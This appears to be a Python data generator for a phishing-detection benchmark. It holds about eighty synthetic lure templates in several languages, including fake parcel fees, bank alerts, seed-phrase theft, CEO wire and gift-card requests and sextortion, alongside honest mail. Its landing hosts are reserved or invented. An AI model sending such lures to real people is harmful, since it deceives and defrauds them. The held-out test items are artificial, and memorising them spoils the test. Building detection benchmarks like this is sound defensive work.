#!/usr/bin/env python3
"""A second set of synthetic mail for `mail/phishing`, by another hand than `bench/mail_lures.py`: lures and honest mail
as they went round between 2015 and 2025, each template in one of two halves. Half A was measured unseen before
anything was changed, then its misses were read; half B was measured before and after that, then read too. Part C was
written after both were mended.

    python3 bench/mail_held.py OUT   ->  OUT/{lure,honest}-{a,b,c}/*.eml

Plainly made up: no template is taken from a real mail, landing hosts are reserved or invented, nothing leads anywhere.
Options of a template: t plain text only, i picture to click, q QR picture, h HTML attached, z zero-width splits,
c letters of other alphabets, b base64 part, p PDF attached, x no link."""
import usage
import base64, os, random, re, sys
from email.message import EmailMessage
R = random.Random(77)
TO = [("Anna Rey", "anna.rey@parti-bleu.example"), ("Tom Weber", "tom.weber@liste-citoyenne.example"), ("Inès Caron", "ines.caron@mairie-kervil.example")]
W = "https://boulangerie-kervil.example/wp-content/plugins/{r}/"
SITES = {"W": W, "F": "https://{r}.weebly.com/", "P": "https://{r}.pages.dev/", "B": "https://bit.ly/{r}", "G": "https://www.google.com/url?q=https%3A%2F%2F{r}.plomberie-adour.example%2F&sa=D", "I": "https://ipfs.io/ipfs/bafybei{r}{r}{r}/index.html#{to}", "H": "https://kessler-dach.example/{r}/?u={b}", "D": "https://{r}.duckdns.org/fr/", "S": "https://{s}.example/{r}", "N": "http://203.0.113.{n}/{r}/login", "A": "https://s3.us-east-1.amazonaws.com/{r}/index.html", "T": "https://t.co/{r}"}
# name | address | subject | text | button | site | options
LURES = """
Microsoft 365 | no-reply@kessler-dach.example | Storage quota reached 98% | Your mailbox {to} has used 49.1 GB of 50 GB. New mail will be rejected until you increase the quota. | Increase quota | H |
Voicemail | vm@tischlerei-hansen.example | Missed call (00:37) from +49 30 5550 | You received a voice message in your company mailbox. Caller: wireless caller. Duration 37 seconds. | Listen | W |
OneDrive | share@gardenworks.example | Budget 2025.xlsx was shared with you | Karen has shared a secure file with you. This link works only for {to}. | Open Budget 2025.xlsx | I |
DHL Paket | versand@tischlerei-hansen.example | Ihre Sendung konnte nicht zugestellt werden | Guten Tag, für Ihre Sendung sind noch 2,99 EUR Zollgebühren offen. Ohne Zahlung geht das Paket zurück. | Gebühr bezahlen | D |
La Poste Colissimo | suivi@loc-materiel.example | Colis en instance n°8X0021 | Votre colis est bloqué au centre de tri car l'adresse est incomplète. Mettez à jour votre adresse et réglez 1,95 €. | Mettre à jour | W |
Chronopost | avis@{r}.example | Avis de passage | Notre livreur est passé ce matin. Merci de programmer une nouvelle livraison sous 48h (frais : 0,99 €). | Reprogrammer | B |
ANTAI | contact@{r}-service.example | Amende impayée n°{n}4471 | Sauf erreur de notre part, vous n'avez pas réglé votre contravention de 35 €. Passé ce délai, elle sera majorée à 135 €. | Régler mon amende | S amende-gouv-paiement |
impots.gouv.fr | dgfip@loc-materiel.example | Notification de remboursement | Nos services ont constaté un trop-perçu de 412,60 €. Pour le recevoir, remplissez le formulaire en ligne. | Formulaire | G |
l'Assurance Maladie | info@{r}.example | Un remboursement de 247,30 € est en attente | Nous n'avons pas pu effectuer votre remboursement faute de coordonnées bancaires valides. | Renseigner mes coordonnées | P |
Crédit Agricole | securite@gardenworks.example | SecuriPass : action obligatoire | Votre SécuriPass expire le 12. Sans renouvellement, vos opérations en ligne seront bloquées. | Renouveler | W |
BNP Paribas | alerte@{r}.example | Nouvel appareil détecté | Un nouvel appareil a été ajouté à votre espace. Si ce n'est pas vous, annulez l'ajout immédiatement. | Annuler l'ajout | S bnp-securite |
Volksbank | service@gardenworks.example | VR-SecureGo plus: Registrierung läuft ab | Sehr geehrte Kundin, Ihre Registrierung muss bis morgen erneuert werden, sonst wird Ihr Zugang eingeschränkt. | Jetzt erneuern | D |
PayPal | billing@{r}.example | Invoice from Norton LifeLock (#4471) | Norton LifeLock sent you an invoice for $489.99. Do not recognize it? Call our support at +1 (808) 555-0143 within 24 hours to cancel. | | x |
Netflix | info@account-{r}.example | Let's fix your payment | We are having trouble with your current billing information. We'll try again, but in the meantime update your details. | Update account | T |
Spotify Premium | hello@kessler-dach.example | Paiement refusé | Nous n'avons pas pu prélever votre abonnement. Votre compte repassera en version gratuite si vous ne mettez pas à jour votre carte. | Mettre à jour ma carte | F |
Apple | noreply@{r}.example | Your Apple ID has been locked | For your security, your Apple ID has been locked because we found several failed sign-ins. | Unlock Apple ID | A |
Ledger | security@gardenworks.example | Firmware update needed | A vulnerability affects your device. Enter your 24 words in the new Ledger Live to keep your assets safe. | Start update | P |
Binance | support@{r}.example | Withdrawal of 1.2 ETH requested | A withdrawal from your account was requested from Minsk. Freeze your account if this was not you. | Freeze account | S binance-freeze |
DocuSign | dse@kessler-dach.example | Please DocuSign: Settlement statement | All parties have completed the envelope. Review and sign the document today. | REVIEW DOCUMENT | I |
WeTransfer | noreply@tischlerei-hansen.example | You received files: Invoice_March.pdf | 3 items, 12 MB in total. Files expire tomorrow. | Get your files | F |
HR Department | hr@{r}.example | Salary adjustment {n}/2025 - acknowledge | Dear employee, the salary increase list is available. Sign in with your work mail to acknowledge. | View salary list | H |
Payroll | pay@gardenworks.example | Your direct deposit failed | Your payroll deposit could not be processed. Validate your bank details before 5 pm to be paid on time. | Validate | A |
parti-bleu.example Webmail | admin@kessler-dach.example | Deactivation request for {to} | We received a request to deactivate {to}. If you did not make it, cancel it here or the mailbox will be erased within 24 hours. | Cancel request | H |
cPanel | cpanel@loc-materiel.example | (4) incoming messages held on server | Messages to {to} are held because of a validation error. Deliver them to your inbox. | Deliver messages | N |
IT Service Desk | desk@tischlerei-hansen.example | Mandatory: re-enrol your authenticator | The security token of your account ends today. Scan the QR code with your phone to keep access. | | Q | q
Zoom | invite@{r}.example | You missed a meeting | Your meeting attendees are waiting. Sign in to join the recording. | Join | P |
Adobe | cloud@gardenworks.example | Secured PDF from accounting | You have a secured document. Log in with your email provider to open it. | Open PDF | F |
Amazon | order@{r}.example | Your order of a MacBook ($1,899.00) is confirmed | If you did not place this order, contact our fraud team at +1 (888) 555-0119 immediately. | | x |
Geek Support | ap@{r}.example | Renewal successful 5521 | Your plan was renewed for 3 years and $349.99 will be charged to your account. To cancel call 1 (855) 555-0161. Thank you for choosing us. | | x | t
Jean Rey | jean.rey.maire{n}@gmail.com | Tu es là ? | Anna, tu es disponible ? J'ai besoin que tu achètes des cartes cadeaux pour une surprise à l'équipe. Je suis en réunion, réponds par mail. | | x | t
Tom | direction{n}@outlook.com | Virement urgent | Bonjour, je suis en conférence. Peux-tu effectuer un virement de 18 400 € aujourd'hui pour clore un dossier confidentiel ? Envoie-moi le solde. | | x | t
Martin Kent | m.kent{n}@gmail.com | Direct deposit change | Hi, I recently changed banks and want my direct deposit to go to the new account before the next payroll. What do you need from me? | | x | t
Unknown | {r}@{r}.example | Payment for your privacy | I have full access to your device and a recording of you from your camera. Transfer 1200 USD in Bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq within 50 hours or your contacts receive it. | | x | t
Spy | {r}@{r}.example | Ich habe Sie aufgenommen | Ich habe Ihre Kamera übernommen und Sie aufgenommen. Zahlen Sie 800 Euro in Bitcoin an 1BoatSLRHtKNngkdXEeobR76b53LETtpyT, sonst geht das Video an alle Kontakte. | | x | t
Euro Lotto | win{n}@gmail.com | Your e-mail won 850,000 EUR | Congratulations, your email address was selected in our promotion. Send your full name, address and phone number to the claims agent. | | x | t
Mrs. Ruth Abel | ruthabel{n}@gmail.com | Please read with your heart | I am a widow with cancer and wish to donate 3.2 million dollars through you to orphans. Contact me for details. | | x | t
Meta Business | case@{r}.example | Your page goes against our standards | Your page will be permanently removed because of copyright reports. Appeal within 24 hours. | Request review | B |
Instagram | help@{r}.example | Copyright infringement on your account | We received a complaint. If you think it is a mistake, verify your account within 48 hours. | Appeal form | D |
LinkedIn | msg@gardenworks.example | You appeared in 9 searches - verify | Your profile is restricted until you verify your identity. | Verify identity | A |
Orange | facture@{r}.example | Facture impayée | Cher client, le paiement de votre facture de 39,99 € a été rejeté. Votre ligne sera suspendue. | Payer ma facture | S espace-client-orange-fr |
Free Mobile | contact@{r}.example | Incident de paiement | Suite au rejet de votre prélèvement, merci de régulariser votre situation sous 24 h. | Régulariser | W |
EDF | service@loc-materiel.example | Chèque énergie : remboursement | Vous bénéficiez d'un remboursement de 84,20 €. Confirmez votre RIB pour recevoir le virement. | Confirmer mon RIB | P |
Mon Compte Formation | cpf@{r}.example | Vos droits CPF expirent | Vos 1 480 € de droits à la formation expirent ce mois-ci. Utilisez-les avant qu'ils ne soient perdus. | Utiliser mes droits | B |
Vignette Crit'Air | contact@{r}.example | Vignette obligatoire | Votre véhicule n'est pas enregistré. Commandez votre vignette sous peine d'amende de 68 €. | Commander | S certificat-air-gouv |
Santé.fr | carte@loc-materiel.example | Carte Vitale 2025 | Votre carte Vitale arrive à expiration. Renseignez vos informations pour ne pas perdre vos droits. | Commander ma carte | D |
USPS | track@{r}.example | Package on hold | We could not deliver your package because the house number is missing. Update your address, fee $0.30. | Update address | S usps-redelivery |
FedEx | notice@kessler-dach.example | Shipment exception 7712 | Delivery attempt failed. Schedule a new delivery and pay the customs fee of $1.99. | Schedule | N |
Correos | aviso@{r}.example | Su paquete está retenido | Debe abonar 1,79 € de aduana para recibir el envío. El plazo vence en 24 horas. | Pagar ahora | D |
Agenzia Entrate | info@gardenworks.example | Rimborso fiscale | Ha diritto a un rimborso di 265,84 €. Compili il modulo per ricevere il bonifico. | Compila il modulo | W |
BBVA | aviso@{r}.example | Acceso no autorizado | Hemos detectado un acceso no autorizado. Verifique su identidad o su cuenta será bloqueada. | Verificar identidad | A |
Poste Italiane | postepay@{r}.example | PostePay sospesa | La sua carta è stata sospesa. Confermi i dati per riattivarla. | Riattiva | F |
ING | klant@{r}.example | Uw betaalpas verloopt | Geachte klant, uw betaalpas verloopt binnenkort. Vraag kosteloos een nieuwe aan. | Nieuwe pas aanvragen | S ing-pas |
Caixa | aviso@{r}.example | Seu cadastro expira hoje | Prezado cliente, seu cadastro está irregular e o acesso será bloqueado. Atualize agora. | Atualizar | D |
Micrоsоft Teаm | t@{r}.example | Pаsswоrd expirаtiоn | Yоur pаsswоrd expires tоdаy. Keep using the sаme pаsswоrd. | Keep pаsswоrd | W | c
Web mail support | a@kessler-dach.example | Upgrade | Dear user, your e-mail account is to be upgrade to new version. Failure to do so you lost your mails. Click and fill you details. | CLICK HERE | F | t
Mail Team | a@{r}.example | Unusual sign-in | We noticed an unusual sign-in to your account. Confirm it was you or your account will be limited. | Confirm | H | z
Secure share | s@{r}.example | Encrypted message | You have an encrypted message. Open the attached page and sign in with your email password to read it. | | x | h
Accounts payable | ap@gardenworks.example | Remittance advice 88412 | Please find the remittance advice attached. | | x | h
Xerox scanner | scan@{r}.example | Scanned from a Xerox | Please open the attached scan. Number of pages: 3. | | x | h
Fax service | fax@{r}.example | New fax | You have a new fax of two pages. | View fax | G | b
Picture | news@{r}.example | Votre cadeau vous attend | | Image | B | i
Lidl | promo@{r}.example | Vous avez gagné une machine à café | Félicitations ! Répondez à notre sondage pour recevoir votre cadeau, frais de port 2 €. | Je participe | D | i
Decathlon | club@{r}.example | Un chèque cadeau de 500 € | Vous avez été sélectionné pour recevoir un chèque cadeau. Offre valable aujourd'hui. | Recevoir | B |
Costco | m@{r}.example | Answer and win | You have been chosen to receive a reward. Answer a 30-second survey. | Start survey | D | i
Norton | s@{r}.example | Your PC is at risk | 5 viruses found. Your protection has expired. Renew to remove them. | Renew | A |
MetaMask | k@{r}.example | KYC deadline | All wallets must be verified before the 30th or they will be restricted. | Verify my wallet | P |
Trust Wallet | air@{r}.example | Claim your airdrop | You are eligible for 2,400 TWT. Connect your wallet to claim. | Claim | F |
Copilot Crypto | go@{r}.example | Earn 2,000 a day | Invest 250 EUR and let the robot trade. Members made 2,000 EUR per day. | Start now | B |
Loan Office | loan{n}@gmail.com | Prêt entre particuliers | Bonjour, je propose des prêts de 5 000 à 500 000 € à 2 %. Contactez-moi avec vos coordonnées. | | x | t
Barrister Cole | cole{n}@outlook.com | Re: unclaimed estate | A client who bore your surname died and left 9.4 million USD. I propose to present you as next of kin. Confidential. | | x | t
Supplier | billing{n}@gmail.com | Change of bank account | Dear partner, due to an audit our bank account has changed. Please send all payments to the new IBAN and confirm by return. | | x | t
Teams | t@gardenworks.example | 3 unread chats | Your teammates are trying to reach you. Messages will be deleted in 24 hours. | Reply in Teams | P |
Dropbox | d@{r}.example | Contract.pdf has been shared | View the file before it expires. Sign in with your work email. | View file | A |
Google | g@{r}.example | Google storage: final notice | Your storage is full. Files will be deleted unless you upgrade today. | Upgrade | B |
GoDaddy | dom@{r}.example | Your domain expires | The domain of {to} expires today. Renew it to avoid losing your email. | Renew now | N |
OVHcloud | support@{r}.example | Suspension de votre nom de domaine | Votre nom de domaine sera suspendu faute de paiement. Montant : 3,99 €. | Renouveler | W |
Booking.com | guest@{r}.example | Confirm your reservation | Your card could not be verified. Confirm your card within 12 hours or your booking will be cancelled. | Confirm card | S booking-verify |
Airbnb | trip@{r}.example | Payment problem | Your reservation is on hold. Complete payment verification. | Verify | D |
Telegram | t@{r}.example | Login from new device | Someone is logging in to your account. Cancel the login. | Cancel | P |
WhatsApp | w@{r}.example | Backup expires | Your chat backup will be deleted. Verify your number to keep it. | Verify | F |
Signal Support | signal.support{n}@gmail.com | Security verification | Suspicious activity was detected on your Signal account. Scan the code to verify your device. | | Q | q
Parti Bleu IT | it@{r}.example | Nouvelle politique de mot de passe | Le mot de passe de {to} expire aujourd'hui. Validez-le pour conserver l'accès à la messagerie. | Valider | W |
""".strip().splitlines()
# name | address | subject | text | links (text>url, separated by ;) | options
HONEST = r"""
Maison Brel | commande@maison-brel.example | Confirmation de votre commande 20118 | Bonjour Anna, merci pour votre commande de 48,00 €. Elle part demain par Colissimo. | Voir ma commande>https://click.sendgrid.net/ls/click?upn={r}{r}; Nous écrire>mailto:bonjour@maison-brel.example |
Atelier Nord | hello@atelier-nord.example | Reset your password | You asked to reset the password of your account. This link works for one hour. If you did not ask, ignore this mail. | Reset password>https://atelier-nord.example/reset?token={r} |
BNP Paribas | newsletter@news.bnpparibas.com | Vos projets de printemps | Anna, découvrez nos conseils pour votre épargne et notre offre de prêt immobilier. | Découvrir>https://click.news.bnpparibas.com/?qs={r}; Se désabonner>https://click.news.bnpparibas.com/u?qs={r} |
DHL | noreply@dhl.de | Ihr Paket kommt heute | Guten Tag, Ihr Paket von Buchladen Wolf kommt heute zwischen 12 und 14 Uhr. | Sendung verfolgen>https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode={r} |
Colissimo | noreply@notif-colissimo-laposte.info | Votre colis arrive demain | Bonjour, votre colis sera livré demain. Vous pouvez choisir un autre jour. | Suivre mon colis>https://www.laposte.fr/outils/suivre-vos-envois?code={r} |
Chronopost | chronopost@network1.pickup.fr | Votre colis vous attend en point relais | Votre colis est disponible au relais Tabac du Port jusqu'au 14. Présentez une pièce d'identité. | Suivi>https://www.chronopost.fr/tracking-no-cms/suivi-page?listeNumerosLT={r} |
Lea Caron | lea@liste-citoyenne.example | Invitation: bureau du mardi @ mar 12 nov 18:00 | Léa vous invite. Salle 3, ordre du jour en pièce jointe. | | c
GitHub | notifications@github.com | [parti-bleu/site] Fix the login form (PR #118) | @tom requested your review on: parti-bleu/site#118. The login form loses the password field on Safari. | view it on GitHub>https://github.com/parti-bleu/site/pull/118; unsubscribe>https://github.com/notifications/unsubscribe-auth/{r} |
Tom Weber (Jira) | jira@parti-bleu.atlassian.net | [JIRA] (SITE-41) Payment page shows an error | Tom Weber updated an issue. The payment of dues fails with an expired card. | View issue>https://parti-bleu.atlassian.net/browse/SITE-41 |
Payfit | no-reply@payfit.com | Votre bulletin de paie est disponible | Bonjour Anna, votre bulletin de paie d'octobre est disponible dans votre espace. | Consulter>https://app.payfit.com/payslips/{r} |
Lucca | no-reply@lucca.example | Demande de congés à valider | Inès Caron a posé une demande du 12 au 15. Validez ou refusez la demande. | Voir la demande>https://parti-bleu.ilucca.net/timmi/leaves/{r} |
Paul Rey | paul.rey.brest@gmail.com | Photos et compte rendu | Salut Anna, voilà les photos de dimanche et mon compte rendu. Dis-moi si tu peux l'ouvrir. Paul | | p
Plomberie Adour | compta@plomberie-adour.example | Facture 2025-118 | Bonjour, veuillez trouver ci-joint notre facture de 312,40 €. Merci de la régler sous 30 jours. Cordialement. | | p
debian-user | jonas@feld.example | Re: mail server rejects my password | On Tue, Tom wrote:\n> my account is locked after three failed logins\nCheck the log of dovecot, and confirm that the password file is readable. | https://wiki.example/dovecot>https://wiki.example/dovecot | tl
Bibliothèque de Kervil | biblio@mairie-kervil.example | Vos prêts arrivent à échéance | Bonjour, deux documents sont à rendre avant le 20. Vous pouvez prolonger vos prêts en ligne. | Mon compte>https://biblio.mairie-kervil.example/compte |
Google | no-reply@accounts.google.com | Alerte de sécurité | Nouvelle connexion sur Windows. Si c'était vous, vous n'avez rien à faire. Sinon, nous vous aiderons à sécuriser votre compte. | Vérifier l'activité>https://accounts.google.com/AccountChooser?Email={to}&continue=https://myaccount.google.com/alert/nt/{r} |
Microsoft account team | account-security-noreply@accountprotection.microsoft.com | Microsoft account security code | Please use the following security code for the Microsoft account: 448120. If you don't recognize this account, you can remove your email. | remove>https://account.live.com/dp?ft={r} |
PayPal | service@paypal.fr | Reçu de votre paiement à Librairie Wolf | Vous avez envoyé un paiement de 24,90 € à Librairie Wolf. Il peut s'écouler quelques instants avant que cette transaction apparaisse. | Voir la transaction>https://www.paypal.com/activity/payment/{r} |
Netflix | info@members.netflix.com | Your payment method was updated | Hi Anna, your payment method ending in 4410 was added. If this was not you, visit the help center. | Account>https://www.netflix.com/YourAccount?lnktrk={r} |
Apple | no_reply@email.apple.com | Your receipt from Apple | Receipt. iCloud+ 50 GB, monthly, 0,99 €. Billed to Visa 4410. | Manage>https://finance-app.itunes.apple.com/account/subscriptions |
Amazon.fr | confirmation-commande@amazon.fr | Votre commande Amazon.fr | Bonjour Anna, nous vous remercions de votre commande. Livraison estimée jeudi. | Suivre>https://www.amazon.fr/gp/css/your-orders-access?ref={r} |
DocuSign via Notaire Kermeur | dse_eu1@eumail.docusign.net | Merci de signer : compromis.pdf | Étude Kermeur vous a envoyé un document à examiner et à signer. | Examiner le document>https://eu.docusign.net/Signing/EmailStart.aspx?a={r} |
WeTransfer | noreply@wetransfer.com | lea@liste-citoyenne.example sent you affiches.zip | 1 item, 84 MB in total. Will be deleted on 20 November. | Get your files>https://wetransfer.com/downloads/{r}/{r} |
Dropbox | no-reply@dropbox.com | Tom shared "Budget" with you | Hi Anna, Tom invited you to edit the folder "Budget" on Dropbox. | Go to folder>https://www.dropbox.com/scl/fo/{r} |
SharePoint Online | no-reply@sharepointonline.com | Tom Weber shared "Budget" with you | Here's the document that Tom shared with you. | Open>https://partibleu.sharepoint.com/:x:/s/bureau/{r} |
Zoom | no-reply@zoom.us | Cloud recording is now available | Hi Tom, your cloud recording of Bureau is available. | Recording>https://us02web.zoom.us/rec/share/{r} |
Doctolib | no-reply@doctolib.fr | Rappel : rendez-vous demain à 9h | Votre rendez-vous avec Dr Kermeur est confirmé demain à 9h. Vous pouvez l'annuler ou le déplacer. | Gérer mon rendez-vous>https://www.doctolib.fr/appointments/{r} |
Ameli | ne-pas-repondre@info.ameli.fr | Vous avez un nouveau message | Bonjour, un nouveau message est disponible dans votre compte ameli. | Mon compte>https://assure.ameli.fr/ |
impots.gouv | ne-pas-repondre@dgfip.finances.gouv.fr | Votre avis d'impôt est en ligne | Bonjour, votre avis d'impôt sur les revenus est disponible dans votre espace particulier. Pour votre sécurité, ce message ne contient pas de lien. | |
EDF | noreply@edf.fr | Votre facture est disponible | Bonjour, votre facture d'un montant de 84,10 € est disponible. Elle sera prélevée le 18. | Ma facture>https://particulier.edf.fr/fr/accueil/espace-client/{r} |
Free | assistance@free.fr | Votre facture Free | Bonjour, votre facture de 29,99 € est disponible. | Espace abonné>https://subscribe.free.fr/login/{r} |
Sparkasse Kiel | info@sparkasse-kiel.de | Neue Nachricht im Postfach | Sie haben eine neue Nachricht in Ihrem elektronischen Postfach. | Zum Postfach>https://www.sparkasse-kiel.de/postfach |
Stadtwerke Kiel | service@stadtwerke-kiel.de | Ihre Abrechnung | Guten Tag, Ihre Abrechnung liegt bereit. Der Betrag wird abgebucht. | Zum Kundenportal>https://kundenportal.stadtwerke-kiel.de/{r} |
Mozilla | accounts@firefox.com | Confirm your account | Confirm your Mozilla account to start syncing. | Confirm>https://accounts.firefox.com/verify_email?uid={r} |
Discourse de la Liste | noreply@forum.liste-citoyenne.example | Activez votre nouveau compte | Bienvenue. Cliquez sur ce lien pour confirmer et activer votre compte. | https://forum.liste-citoyenne.example/u/activate-account/{r}>https://forum.liste-citoyenne.example/u/activate-account/{r} | t
Nextcloud | cloud@parti-bleu.example | Votre espace de stockage est presque plein | Vous utilisez 92 % de votre espace. Supprimez des fichiers ou demandez plus d'espace à l'administrateur. | Ouvrir>https://cloud.parti-bleu.example/ |
IT Support | support@parti-bleu.example | Votre mot de passe expire dans 10 jours | Bonjour, votre mot de passe expire dans 10 jours. Changez-le depuis votre poste (Ctrl+Alt+Suppr). | |
Change.org | change@e.change.org | Tom vient de lancer une pétition | Signez la pétition de Tom : une piste cyclable à Kervil. | Signer>https://click.e.change.org/f/a/{r} |
Le Monde | newsletters@lemonde.fr | La matinale | Les principaux titres du jour : élection à Kervil, budget de l'État, sécurité des comptes. | Lire>https://emailing.lemonde.fr/{r}; Se désinscrire>https://emailing.lemonde.fr/u/{r} |
Mediapart | newsletter@infos.mediapart.fr | Le journal du soir | Notre enquête sur les fraudes aux virements bancaires. | Lire>https://infos.mediapart.fr/r/?id={r} |
Ryanair | noreply@ryanair.com | Your booking is confirmed | Your reservation 8HX2KL is confirmed. Check in opens 24 hours before departure. | Check in>https://www.ryanair.com/check-in/{r} |
SNCF Connect | no-reply@info.sncf-connect.com | Votre voyage de demain | Votre train de 8h12 partira voie 4. Ouvrez l'application pour votre billet. | Mon billet>https://www.sncf-connect.com/app/trips/{r} |
Blablacar | noreply@blablacar.com | Votre réservation est confirmée | Paul vous attend à 14h. Le paiement de 12 € est validé. | Voir le trajet>https://www.blablacar.fr/trip/{r} |
Vinted | no-reply@vinted.fr | Votre article est vendu | Félicitations, votre article est vendu. Imprimez le bordereau et envoyez le colis sous 5 jours. | Bordereau>https://www.vinted.fr/inbox/{r} |
Leboncoin | no-reply@leboncoin.fr | Nouveau message pour votre annonce | Bonjour, le vélo est-il encore disponible ? | Répondre>https://www.leboncoin.fr/messages/{r} |
HelloAsso | notification@helloasso.org | Reçu de votre don | Merci pour votre don de 20 € à Les Amis de Kervil. Votre reçu fiscal est disponible. | Télécharger>https://www.helloasso.com/associations/{r}/recu |
Les Amis de Kervil | info@amis-de-kervil.example | Le bulletin de novembre | Concert samedi, collecte de jouets, et l'assemblée générale. N'oubliez pas de régler votre cotisation. | Lire>https://amis-de-kervil.us5.list-manage.com/track/click?u={r}; Désinscription>https://amis-de-kervil.us5.list-manage.com/unsubscribe?u={r} |
La Ferme de l’Adour | contact@ferme-adour.example | Votre panier de la semaine | Poireaux, pommes et œufs. Confirmez votre panier avant jeudi. | Confirmer>https://r.mail.ferme-adour.example/mk/cl/f/{r} |
Eventbrite | noreply@event.eventbrite.com | Rappel : débat des candidats | Votre billet pour le débat est joint. | Billet>https://www.eventbrite.fr/mytickets/{r} | p
Typeform | survey@ecole-kervil.example | Votre avis sur la cantine | Répondez à notre sondage de deux minutes sur la cantine. | Répondre>https://ecolekervil.typeform.com/to/{r} |
Tom Weber | tom.weber@liste-citoyenne.example | Inscriptions au collage du samedi | Bonjour à tous, remplissez le formulaire avant vendredi. Merci ! Tom | formulaire>https://docs.google.com/forms/d/e/{r}/viewform |
Doodle | mailer@doodle.com | Tom vous invite à choisir une date | Choisissez vos disponibilités pour la réunion. | Participer>https://doodle.com/meeting/participate/id/{r} |
Slack | no-reply@slack.com | Your confirmation code: 8KD-22X | Confirm your email address with this code to sign in to Slack. | Help>https://slack.com/help |
1Password | hello@1password.com | New device signed in | A new device signed in to your account: Firefox on Linux. If this wasn't you, change your password. | View>https://my.1password.eu/devices/{r} |
Trello | do-not-reply@trello.com | Tom mentioned you on the card Flyers | @anna can you confirm the printer? | Show card>https://trello.com/c/{r} |
Stripe | notifications@stripe.com | Payment of 24,00 € from Feld failed | A payment of your customer Feld failed: insufficient funds. | View payment>https://dashboard.stripe.com/payments/{r} |
OVHcloud | support@ovh.com | Renouvellement de votre domaine | Le domaine liste-citoyenne.example expire dans 30 jours. Renouvelez-le depuis votre espace. | Renouveler>https://www.ovh.com/manager/#/billing/autorenew |
Gandi | support@gandi.net | Your domain will be renewed | The domain will be renewed automatically, 18 €. | Admin>https://admin.gandi.net/domain/{r} |
Let's Encrypt | expiry@letsencrypt.org | Certificate expiration notice | Your certificate for www.liste-citoyenne.example will expire in 19 days. Please renew it. | https://letsencrypt.org/docs/>https://letsencrypt.org/docs/ | t
Cron Daemon | root@srv1.liste-citoyenne.example | Cron: backup failed | tar: /var/backups: cannot open: no space left on device. Backup incomplete. | | t
Inès Caron | ines.caron@mairie-kervil.example | RIB pour le remboursement | Bonjour Anna, peux-tu m'envoyer ton RIB pour le remboursement de tes frais de déplacement ? Merci, Inès | | t
Tom Weber | tom.weber@liste-citoyenne.example | Peux-tu vérifier le compte rendu ? | Salut, j'ai mis le document en ligne, peux-tu le relire avant ce soir ? C'est urgent pour l'imprimeur. | https://pad.liste-citoyenne.example/p/{r}>https://pad.liste-citoyenne.example/p/{r} | t
Lea Caron | lea.caron.kervil@gmail.com | Anniversaire de maman | Coucou, tu es disponible samedi ? On achète un cadeau ensemble, une carte cadeau de la librairie peut-être. Bises | | t
Notaire Kermeur | etude@kermeur-notaire.example | Succession de M. Rey | Maître, chers héritiers, veuillez trouver le projet d'acte de succession de M. Rey, défunt. Merci de confirmer le rendez-vous. | | p
Syndic Adour | gestion@syndic-adour.example | Appel de fonds | Bonjour, votre appel de fonds du trimestre est disponible. Montant à régler : 412 €. | Espace copropriétaire>https://extranet.syndic-adour.example/{r} |
École Kervil | direction@ecole-kervil.example | Sortie du 14 : autorisation | Merci de remplir l'autorisation jointe et de la rendre avant vendredi. | | p
Pharmacie du Port | contact@pharmacie-port.example | Votre ordonnance est prête | Bonjour, votre commande est prête. Vous pouvez la récupérer. | |
Rowing Club | sec@rowing-club.example | Membership renewal | Dear member, memberships expire on 31 December. Renew online or at the boathouse. | Renew>https://rowing-club.example/renew |
Kickstarter | no-reply@kickstarter.com | Payment successful for Atlas of Maps | Your pledge was collected. Thank you. | Project>https://www.kickstarter.com/projects/{r} |
Steam Support | noreply@steampowered.com | Your Steam account: access from new computer | Here is the Steam Guard code you need to log in: 7KQ2D. | |
Nintendo | no-reply@accounts.nintendo.com | Sign-in to your Nintendo Account | Your account was used to sign in. If you do not recognize this, change your password. | Account>https://accounts.nintendo.com/ |
Coinbase | no-reply@coinbase.com | Your statement is ready | Your monthly statement is ready to view. | View>https://www.coinbase.com/statements/{r} |
Revolut | no-reply@revolut.com | Your card is on its way | Your card will arrive in 5 working days. | Track>https://app.revolut.com/cards/{r} |
Booking.com | noreply@booking.com | Your reservation in Brest is confirmed | Thanks Anna! Free cancellation until 10 November. | Manage booking>https://secure.booking.com/myreservations.html?bn={r} |
Meetup | info@meetup.com | 4 people joined your event | Your event Repair Café has 4 new attendees. | See>https://www.meetup.com/events/{r} |
Substack | marie@substack.com | The week in local politics | Turnout, trust and fraud: what we know about the vote. | Read>https://open.substack.com/pub/{r} |
Fnac | info@news.fnac.com | Black Friday : -30 % | Offre exclusive, dernière chance : jusqu'à demain seulement. | J'en profite>https://click.news.fnac.com/?qs={r}; Désabonnement>https://click.news.fnac.com/u/{r} |
IKEA Family | family@ikea.fr | Votre chèque cadeau d'anniversaire | Anna, profitez de votre cadeau en magasin. | Voir mon cadeau>https://email.ikea.fr/r/{r} |
CFDT Kervil | contact@cfdt-kervil.example | Élections du CSE | Votez en ligne avec le code reçu par courrier. | Voter>https://vote.neovote.com/{r} |
Lycée Port | vie-scolaire@lycee-port.example | Absence de votre enfant | Madame, votre enfant était absent ce matin. Merci de justifier l'absence. | Espace parents>https://0290000a.index-education.net/pronote/parent.html |
""".strip().splitlines()
# Part C: written after the misses of A and B had been read and mended, measured once.
LURES_C = """
Office Admin | admin@{r}.example | Your sign-in session has timed out | Your email session timed out and 7 messages could not reach you. Sign in again to receive them. | Sign in again | P |
Mail Delivery Subsystem | postmaster@loc-materiel.example | Undelivered mail: authentication needed | Delivery to {to} stopped because the mailbox is not synchronized. | Synchronize now | H |
SharePoint | files@gardenworks.example | Anna, a signed contract awaits you | The file "Contract_{n}.pdf" was uploaded for you and is protected. Log in to read it. | Read the file | A |
UPS | info@{r}.example | Livraison suspendue | Votre envoi est suspendu à l'entrepôt en attente du paiement des taxes (2,45 €). | Payer les taxes | D |
Mondial Relay | suivi@{r}.example | Dernier avis | Votre colis sera renvoyé à l'expéditeur si vous ne choisissez pas un point relais aujourd'hui. | Choisir un relais | W |
GLS | paket@kessler-dach.example | Paketzustellung fehlgeschlagen | Bitte bestätigen Sie Ihre Anschrift und zahlen Sie 1,99 EUR für die erneute Zustellung. | Anschrift bestätigen | S gls-zustellung |
Société Générale | pass@{r}.example | Pass Sécurité à réactiver | Votre Pass Sécurité a été désactivé. Réactivez-le pour continuer à utiliser votre carte. | Réactiver | W |
La Banque Postale | certicode@loc-materiel.example | Nouveau dispositif Certicode | Conformément à la directive DSP2, vous devez activer Certicode Plus avant vendredi. | Activer | B |
